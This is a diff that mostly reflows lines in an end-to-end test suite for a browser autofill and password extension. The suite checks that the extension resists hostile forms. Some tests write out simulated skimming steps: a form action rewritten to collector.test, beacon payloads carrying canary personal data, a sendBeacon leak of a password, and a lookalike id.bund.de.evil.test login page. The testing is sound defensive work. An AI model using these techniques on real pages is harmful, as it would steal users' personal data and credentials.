@@ -11,17 +11,29 @@ export interface HostileContext {
 /** The canary values with consent for the portal that serves the hostile pages, and a tab for them. */
 export async function setUpHostile(browser: E2eBrowser): Promise<HostileContext> {
   await browser.admin.send('vault.setup', { passphrase: 'Korrekt Pferd Batterie Heftklammer' });
-  for (const [attributeId, value] of Object.entries(CANARY)) expect(await browser.admin.send('attribute.set', { attributeId, value })).toMatchObject({ ok: true });
+  for (const [attributeId, value] of Object.entries(CANARY))
+    expect(await browser.admin.send('attribute.set', { attributeId, value })).toMatchObject({ ok: true });
   // Consent is granted from the confirm window only; a confirm page opened as a tab counts as one.
-  expect(await browser.asConfirm((confirm) => confirm.send('consent.grant', { portalId: 'elternbeitraege', origin: 'https://elternbeitraege.test', attributeIds: Object.keys(CANARY) }))).toMatchObject({ ok: true });
+  expect(
+    await browser.asConfirm((confirm) =>
+      confirm.send('consent.grant', {
+        portalId: 'elternbeitraege',
+        origin: 'https://elternbeitraege.test',
+        attributeIds: Object.keys(CANARY),
+      }),
+    ),
+  ).toMatchObject({ ok: true });
   return { browser, page: await browser.newTab() };
 }
 
 const inputs = async (page: E2eTab): Promise<Record<string, string>> =>
-  page.evaluate<Record<string, string>>(`Object.fromEntries([...document.querySelectorAll('main input, main textarea')].map((e) => [e.name, e.value]))`);
+  page.evaluate<Record<string, string>>(
+    `Object.fromEntries([...document.querySelectorAll('main input, main textarea')].map((e) => [e.name, e.value]))`,
+  );
 
 /** Every value a page holds, in its own fields, open shadow roots and same-origin frames, joined for a canary search. */
-const everything = (page: E2eTab): Promise<string> => page.evaluate<string>(`(() => {
+const everything = (page: E2eTab): Promise<string> =>
+  page.evaluate<string>(`(() => {
   const values = [];
   const walk = (root) => {
     for (const e of root.querySelectorAll('input, textarea, select')) values.push(e.name + '=' + e.value);
@@ -63,7 +75,9 @@ export function hostileScenario(context: () => HostileContext): void {
     const { values } = await fill(context(), `${ORIGIN}/hostile/t07-rewrite`);
     expect(values.vorname).toBe(CANARY.givenNames);
     // The page's script rewrites the action 50 ms after the fill's input events.
-    await expect.poll(() => page.evaluate<string>(`document.getElementById('f').action`), { timeout: 20_000 }).toBe('https://collector.test/c');
+    await expect
+      .poll(() => page.evaluate<string>(`document.getElementById('f').action`), { timeout: 20_000 })
+      .toBe('https://collector.test/c');
     await page.click('#senden');
     await expect.poll(async () => (await page.values('#vorname'))[0], { timeout: 20_000 }).toBe('');
     await expectStays(() => page.url(), `${ORIGIN}/hostile/t07-rewrite`);
@@ -84,9 +98,18 @@ export function hostileScenario(context: () => HostileContext): void {
     expect(values.vorname).toBe(CANARY.givenNames);
     const beacons = () => browser.world.server.requests.filter((r) => r.host === 'collector.test' && r.body.includes('vorname'));
     await expect.poll(() => beacons().length, { timeout: 20_000 }).toBeGreaterThan(0);
-    expect(JSON.parse(beacons().at(-1)?.body ?? '')).toEqual({ vorname: CANARY.givenNames, nachname: CANARY.familyName, email: CANARY.email, geburtsdatum: '' });
+    expect(JSON.parse(beacons().at(-1)?.body ?? '')).toEqual({
+      vorname: CANARY.givenNames,
+      nachname: CANARY.familyName,
+      email: CANARY.email,
+      geburtsdatum: '',
+    });
     const audit = await browser.admin.send('audit.list', { portalId: 'elternbeitraege' });
-    expect((audit.value as { entries: { attributeIds: string[] }[] }).entries[0]?.attributeIds).toEqual(['givenNames', 'familyName', 'email']);
+    expect((audit.value as { entries: { attributeIds: string[] }[] }).entries[0]?.attributeIds).toEqual([
+      'givenNames',
+      'familyName',
+      'email',
+    ]);
   });
 
   it('T08: fills the top document only, never a cross-origin frame', async () => {
@@ -102,9 +125,18 @@ export function hostileScenario(context: () => HostileContext): void {
     for (const inView of [false, true]) {
       const proof = await proveInPage(page, { inView });
       // The three controls are visible (a floating label over an empty field, a field in an open shadow root).
-      expect(proof.filter((p) => p.visible).map((p) => p.name).sort(), `inView=${inView}`).toEqual(['email', 'plz', 'telefon']);
+      expect(
+        proof
+          .filter((p) => p.visible)
+          .map((p) => p.name)
+          .sort(),
+        `inView=${inView}`,
+      ).toEqual(['email', 'plz', 'telefon']);
       // Every hidden variant is classified (so a fill would want it) and refused.
-      expect(proof.filter((p) => !p.visible), `inView=${inView}`).toHaveLength(INVISIBLE_VARIANTS);
+      expect(
+        proof.filter((p) => !p.visible),
+        `inView=${inView}`,
+      ).toHaveLength(INVISIBLE_VARIANTS);
     }
   });
 
@@ -114,7 +146,10 @@ export function hostileScenario(context: () => HostileContext): void {
       await page.goto(`${ORIGIN}/hostile/r2-invisible`);
       await recognisedAs(browser, `${ORIGIN}/*`, 'form');
       await page.evaluate(`window.scrollTo(0, ${scroll})`);
-      expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({ ok: true, value: { status: 'filled' } });
+      expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
+        ok: true,
+        value: { status: 'filled' },
+      });
       const values = await everything(page);
       expect(values).toContain(`email=${CANARY.email}`);
       expect(values).toContain(`telefon=${CANARY.phone}`);
@@ -139,12 +174,17 @@ export function hostileScenario(context: () => HostileContext): void {
       expect(await page.evaluate<number>(`document.querySelectorAll('.later.shown').length`), name).toBe(3);
       // Long enough for the page's change to be classified and recorded as visible (after the gesture).
       await expectStays(() => page.evaluate<number>(`document.querySelectorAll('.later.shown').length`), 3);
-      expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) }), name).toMatchObject({ ok: true, value: { status: 'filled' } });
+      expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) }), name).toMatchObject({
+        ok: true,
+        value: { status: 'filled' },
+      });
       const values = await inputs(page);
       expect([values.vorname, values.nachname, values.email], name).toEqual([CANARY.givenNames, CANARY.familyName, CANARY.email]);
       expect([values.geburtsdatum, values.strasse, values.telefon], name).toEqual(['', '', '']);
       // Never written at all (not written and then withdrawn): the log names only the three.
-      const audit = (await browser.admin.send('audit.list', { portalId: 'elternbeitraege' })).value as { entries: { attributeIds: string[] }[] };
+      const audit = (await browser.admin.send('audit.list', { portalId: 'elternbeitraege' })).value as {
+        entries: { attributeIds: string[] }[];
+      };
       expect(audit.entries[0]?.attributeIds, name).toEqual(['givenNames', 'familyName', 'email']);
     }
   });
@@ -153,9 +193,14 @@ export function hostileScenario(context: () => HostileContext): void {
     const { browser, page } = context();
     await page.goto(`${ORIGIN}/hostile/r2-self-hide`);
     await recognisedAs(browser, `${ORIGIN}/*`, 'form');
-    expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({ ok: true, value: { status: 'filled', filled: 1 } });
+    expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
+      ok: true,
+      value: { status: 'filled', filled: 1 },
+    });
     expect(await inputs(page)).toEqual({ vorname: CANARY.givenNames, strasse: '', telefon: '' });
-    const audit = (await browser.admin.send('audit.list', { portalId: 'elternbeitraege' })).value as { entries: { attributeIds: string[] }[] };
+    const audit = (await browser.admin.send('audit.list', { portalId: 'elternbeitraege' })).value as {
+      entries: { attributeIds: string[] }[];
+    };
     expect(audit.entries[0]?.attributeIds).toEqual(expect.arrayContaining(['givenNames', 'street', 'houseNumber', 'phone']));
   });
 
@@ -163,16 +208,25 @@ export function hostileScenario(context: () => HostileContext): void {
     const { browser, page } = context();
     await page.goto(`${ORIGIN}/hostile/r2-frames`);
     await recognisedAs(browser, `${ORIGIN}/*`, 'form');
-    await expect.poll(() => page.evaluate<number>(`document.getElementById('same').contentDocument?.querySelectorAll('input').length ?? 0`), { timeout: 20_000 }).toBe(11);
-    expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({ ok: true, value: { status: 'filled', filled: 1 } });
+    await expect
+      .poll(() => page.evaluate<number>(`document.getElementById('same').contentDocument?.querySelectorAll('input').length ?? 0`), {
+        timeout: 20_000,
+      })
+      .toBe(11);
+    expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
+      ok: true,
+      value: { status: 'filled', filled: 1 },
+    });
     const values = await everything(page);
     expect(values).toContain(`email=${CANARY.email}`);
     expect(values.replace(`email=${CANARY.email}`, '')).not.toMatch(/Zzyzx|zzyzx|12\.08\.1964|51147/);
   });
 
-  it('second round, passwords: only the login form\'s password field gets it; no textarea, hint field or second form', async () => {
+  it("second round, passwords: only the login form's password field gets it; no textarea, hint field or second form", async () => {
     const { browser, page } = context();
-    expect(await browser.admin.send('credential.save', { origin: ORIGIN, username: 'erika@example.de', password: CANARY_PASSWORD })).toMatchObject({ ok: true });
+    expect(
+      await browser.admin.send('credential.save', { origin: ORIGIN, username: 'erika@example.de', password: CANARY_PASSWORD }),
+    ).toMatchObject({ ok: true });
     const before = browser.world.server.requests.length;
     const allRequests = (b: E2eBrowser): string => JSON.stringify(b.world.server.requests.slice(before));
     await page.goto(`${ORIGIN}/hostile/r2-login`);
@@ -181,20 +235,26 @@ export function hostileScenario(context: () => HostileContext): void {
     await page.evaluate(`document.addEventListener('input', (e) => {
       if (e.target.id !== 'password' && String(e.target.value).includes(${JSON.stringify(CANARY_PASSWORD)})) navigator.sendBeacon('https://collector.test/leak', e.target.id);
     }, true)`);
-    expect(await browser.admin.send('signin.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({ ok: true, value: { status: 'submitted' } });
+    expect(await browser.admin.send('signin.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
+      ok: true,
+      value: { status: 'submitted' },
+    });
     await page.waitForUrl(`${ORIGIN}/login`);
     expect(browser.world.server.requests.slice(before).filter((r) => r.path === '/leak')).toEqual([]);
     const login = browser.world.server.requests.filter((r) => r.path === '/login' && r.method === 'POST').at(-1);
     expect(login?.body).toContain('password=' + encodeURIComponent(CANARY_PASSWORD));
     expect(allRequests(browser).split(CANARY_PASSWORD).length - 1).toBe(1);
     await browser.admin.send('credential.list', {}).then(async (listed) => {
-      for (const c of (listed.value as { credentials: { id: string }[] }).credentials) await browser.admin.send('credential.delete', { id: c.id });
+      for (const c of (listed.value as { credentials: { id: string }[] }).credentials)
+        await browser.admin.send('credential.delete', { id: c.id });
     });
   });
 
   it('second round, passwords: a login form that would send with GET (method=get, no method, formmethod=get) gets no password and is not submitted', async () => {
     const { browser, page } = context();
-    expect(await browser.admin.send('credential.save', { origin: ORIGIN, username: 'erika@example.de', password: CANARY_PASSWORD })).toMatchObject({ ok: true });
+    expect(
+      await browser.admin.send('credential.save', { origin: ORIGIN, username: 'erika@example.de', password: CANARY_PASSWORD }),
+    ).toMatchObject({ ok: true });
     const before = browser.world.server.requests.length;
     const allRequests = (b: E2eBrowser): string => JSON.stringify(b.world.server.requests.slice(before));
     for (const variant of ['get', 'nomethod', 'formmethod']) {
@@ -211,7 +271,8 @@ export function hostileScenario(context: () => HostileContext): void {
       expect(allRequests(browser), variant).not.toContain(CANARY_PASSWORD);
     }
     await browser.admin.send('credential.list', {}).then(async (listed) => {
-      for (const c of (listed.value as { credentials: { id: string }[] }).credentials) await browser.admin.send('credential.delete', { id: c.id });
+      for (const c of (listed.value as { credentials: { id: string }[] }).credentials)
+        await browser.admin.send('credential.delete', { id: c.id });
     });
   });
 
@@ -222,7 +283,10 @@ export function hostileScenario(context: () => HostileContext): void {
       const sentNow = (): string => JSON.stringify(browser.world.server.requests.slice(before).filter((r) => r.host === 'collector.test'));
       await page.goto(`${ORIGIN}/hostile/r2-submit?via=${via}`);
       await recognisedAs(browser, `${ORIGIN}/*`, 'form');
-      expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({ ok: true, value: { status: 'filled' } });
+      expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
+        ok: true,
+        value: { status: 'filled' },
+      });
       if (via === 'submit') {
         // form.submit() goes out, with our entries taken out of its data set.
         await page.waitForUrl('https://collector.test/c');
@@ -239,11 +303,23 @@ export function hostileScenario(context: () => HostileContext): void {
     const { browser, page } = context();
     await page.goto(`${ORIGIN}/hostile/r2-submit?via=hide`);
     await recognisedAs(browser, `${ORIGIN}/*`, 'form');
-    expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({ ok: true, value: { status: 'filled', filled: 2 } });
+    expect(await browser.admin.send('fill.request', { tabId: await browser.tabIdOf(`${ORIGIN}/*`) })).toMatchObject({
+      ok: true,
+      value: { status: 'filled', filled: 2 },
+    });
     await expect.poll(async () => (await inputs(page)).vorname, { timeout: 20_000 }).toBe('');
     expect((await inputs(page)).nachname).toBe(CANARY.familyName);
     await expectStays(() => page.url(), `${ORIGIN}/hostile/r2-submit?via=hide`);
-    await expect.poll(async () => ((await browser.admin.send('audit.list', { portalId: 'elternbeitraege' })).value as { entries: { outcome: string; attributeIds: string[] }[] }).entries[0], { timeout: 20_000 })
+    await expect
+      .poll(
+        async () =>
+          (
+            (await browser.admin.send('audit.list', { portalId: 'elternbeitraege' })).value as {
+              entries: { outcome: string; attributeIds: string[] }[];
+            }
+          ).entries[0],
+        { timeout: 20_000 },
+      )
       .toMatchObject({ outcome: 'withdrawn', attributeIds: ['givenNames'] });
   });
 
@@ -251,7 +327,9 @@ export function hostileScenario(context: () => HostileContext): void {
     const { browser, page } = context();
     await page.goto('https://id.bund.de.evil.test/de/login');
     // Without host access the extension sees no URL for that tab; the lookalike is the tab without one.
-    const tabId = await browser.inExtension<number>(`(globalThis.browser ?? globalThis.chrome).tabs.query({}).then((tabs) => tabs.find((t) => t.url === undefined || t.url.includes('evil'))?.id ?? -1)`);
+    const tabId = await browser.inExtension<number>(
+      `(globalThis.browser ?? globalThis.chrome).tabs.query({}).then((tabs) => tabs.find((t) => t.url === undefined || t.url.includes('evil'))?.id ?? -1)`,
+    );
     expect(tabId).toBeGreaterThanOrEqual(0);
     expect(await browser.admin.send('fill.request', { tabId })).toMatchObject({ ok: false, error: { code: 'ORIGIN_NOT_ALLOWED' } });
     expect(await browser.admin.send('signin.request', { tabId })).toMatchObject({ ok: false, error: { code: 'ORIGIN_NOT_ALLOWED' } });
@@ -268,7 +346,9 @@ export function hostileScenario(context: () => HostileContext): void {
     })()`);
     await expectStays(async () => (await page.values('#as_vorname'))[0], '');
     // T15: no externally_connectable, so a page has no runtime.sendMessage to reach us with.
-    expect(await page.evaluate('[typeof globalThis.browser, typeof globalThis.chrome?.runtime?.sendMessage].join()')).toBe('undefined,undefined');
+    expect(await page.evaluate('[typeof globalThis.browser, typeof globalThis.chrome?.runtime?.sendMessage].join()')).toBe(
+      'undefined,undefined',
+    );
     await page.goto('https://evil.test/');
     await page.evaluate(`(() => {
       const frame = document.createElement('iframe');
@@ -278,8 +358,13 @@ export function hostileScenario(context: () => HostileContext): void {
     })()`);
     await expect.poll(() => page.frameUrls(), { timeout: 20_000 }).toHaveLength(1);
     const loaded = async (): Promise<boolean> => {
-      const inside = await page.evaluate<string>(`(() => { try { return document.getElementById('framed').contentDocument?.body?.innerText ?? ''; } catch { return ''; } })()`);
-      return (await page.frameUrls()).some((url) => url.includes('confirm/index.html') && !url.startsWith('about:')) && inside !== '' || inside.includes('Daten übermitteln');
+      const inside = await page.evaluate<string>(
+        `(() => { try { return document.getElementById('framed').contentDocument?.body?.innerText ?? ''; } catch { return ''; } })()`,
+      );
+      return (
+        ((await page.frameUrls()).some((url) => url.includes('confirm/index.html') && !url.startsWith('about:')) && inside !== '') ||
+        inside.includes('Daten übermitteln')
+      );
     };
     await expectStays(loaded, false);
   });
@@ -317,11 +402,21 @@ export function hostileScenario(context: () => HostileContext): void {
       // The opener becomes a portal page itself: same origin as the page it opened.
       await page.goto('https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/plz');
       // And the opened page moves on within the portal (a redirect, a click): still the same tab.
-      await browser.inExtension(`(globalThis.browser ?? globalThis.chrome).tabs.update(${opened}, { url: 'https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name?next=1' }).then(() => true)`);
-      const reported = async (): Promise<boolean> => JSON.stringify((JSON.parse(await browser.sessionStorage()) as Record<string, unknown>)[`page:${opened}`] ?? null).includes('service.justiz.de');
+      await browser.inExtension(
+        `(globalThis.browser ?? globalThis.chrome).tabs.update(${opened}, { url: 'https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name?next=1' }).then(() => true)`,
+      );
+      const reported = async (): Promise<boolean> =>
+        JSON.stringify((JSON.parse(await browser.sessionStorage()) as Record<string, unknown>)[`page:${opened}`] ?? null).includes(
+          'service.justiz.de',
+        );
       // Control: the opener tab, now showing a portal page the citizen navigated to, is reported.
       const openerTab = await browser.tabIdOf('https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/plz');
-      await expect.poll(async () => JSON.stringify((JSON.parse(await browser.sessionStorage()) as Record<string, unknown>)[`page:${openerTab}`] ?? null), { timeout: 20_000 }).toContain('service.justiz.de');
+      await expect
+        .poll(
+          async () => JSON.stringify((JSON.parse(await browser.sessionStorage()) as Record<string, unknown>)[`page:${openerTab}`] ?? null),
+          { timeout: 20_000 },
+        )
+        .toContain('service.justiz.de');
       await expectStays(reported, false);
       expect(await browser.admin.send('fill.request', { tabId: opened })).not.toMatchObject({ ok: true, value: { status: 'filled' } });
       await browser.inExtension(`(globalThis.browser ?? globalThis.chrome).tabs.remove(${opened}).then(() => true)`);
@@ -340,7 +435,9 @@ export function hostileScenario(context: () => HostileContext): void {
       }
       window.open('https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/plz', '_blank');
     })()`);
-    await expect.poll(async () => (await page.frameUrls()).filter((u) => u.startsWith('https://service.justiz.de/')).length, { timeout: 20_000 }).toBe(5);
+    await expect
+      .poll(async () => (await page.frameUrls()).filter((u) => u.startsWith('https://service.justiz.de/')).length, { timeout: 20_000 })
+      .toBe(5);
     const popupTab = await (async () => {
       await expect.poll(() => browser.tabIdOf('https://service.justiz.de/*'), { timeout: 20_000 }).toBeGreaterThanOrEqual(0);
       return browser.tabIdOf('https://service.justiz.de/*');
@@ -348,9 +445,13 @@ export function hostileScenario(context: () => HostileContext): void {
     // Control: the same kind of page opened as a top-level tab by the citizen is reported; once it is,
     // a report of the swept pages would have come too.
     const control = await browser.newTab('https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name');
-    const controlTab = await browser.inExtension<number>(`(globalThis.browser ?? globalThis.chrome).tabs.query({ url: 'https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name' }).then((tabs) => tabs[0]?.id ?? -1)`);
-    const reported = async (): Promise<string[]> => Object.entries(JSON.parse(await browser.sessionStorage()) as Record<string, unknown>)
-      .filter(([key, value]) => key.startsWith('page:') && JSON.stringify(value).includes('service.justiz.de')).map(([key]) => key);
+    const controlTab = await browser.inExtension<number>(
+      `(globalThis.browser ?? globalThis.chrome).tabs.query({ url: 'https://service.justiz.de/beratungshilfe/antrag/persoenliche-daten/name' }).then((tabs) => tabs[0]?.id ?? -1)`,
+    );
+    const reported = async (): Promise<string[]> =>
+      Object.entries(JSON.parse(await browser.sessionStorage()) as Record<string, unknown>)
+        .filter(([key, value]) => key.startsWith('page:') && JSON.stringify(value).includes('service.justiz.de'))
+        .map(([key]) => key);
     await expect.poll(reported, { timeout: 20_000 }).toEqual([`page:${controlTab}`]);
     await expectStays(reported, [`page:${controlTab}`]);
     expect(popupTab).not.toBe(controlTab);
